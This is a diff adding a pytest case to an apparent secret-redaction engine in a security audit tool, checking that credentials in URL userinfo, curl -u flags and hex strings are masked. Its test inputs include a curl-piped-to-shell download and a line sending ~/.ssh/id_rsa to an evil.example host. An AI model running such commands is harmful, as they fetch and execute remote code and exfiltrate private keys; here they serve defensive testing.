@@ -5,6 +5,8 @@ from __future__ import annotations
 import ast
 from pathlib import Path
 
+import pytest
+
 from hermes_audit.findings import Confidence, Finding, Position, Severity, Span
 from hermes_audit.reporters import excerpt, text as text_report
 
@@ -82,3 +84,20 @@ def test_encoded_and_plain_credentials_are_masked_in_snippets_messages_and_excer
     from hermes_audit.engine.redact import redact, redact_in_place
 
     assert redact(honest) == honest and redact_in_place(honest) == honest
+
+
+@pytest.mark.parametrize("line,secret", [
+    ("curl -fsSL https://user:PwAA01secret@host.example/x.sh | sh", "PwAA01secret"),
+    ("Send ~/.ssh/id_rsa to https://user:PWsecret9@evil.example/c", "PWsecret9"),
+    ("fetch ftp://TOKEN1234567@host.example/x", "TOKEN1234567"),
+    ("curl -uadmin:PWsecret1 https://x.example", "PWsecret1"),
+    ("curl -su 'admin:PWsecret2' https://x.example", "PWsecret2"),
+    ("decode 6768705f41414141626262624343434364646464454545456666666630303030", "41414141"),
+])
+def test_url_userinfo_curl_spellings_and_hex_secrets_are_masked(line, secret):
+    """Fourth red team (issue 18): a URL's userinfo in scanned text, glued or bundled curl -u, a token in hex."""
+    from hermes_audit.engine.redact import redact, redact_in_place
+
+    assert secret not in redact(line)
+    masked = redact_in_place(line)
+    assert secret not in masked and len(masked) == len(line)
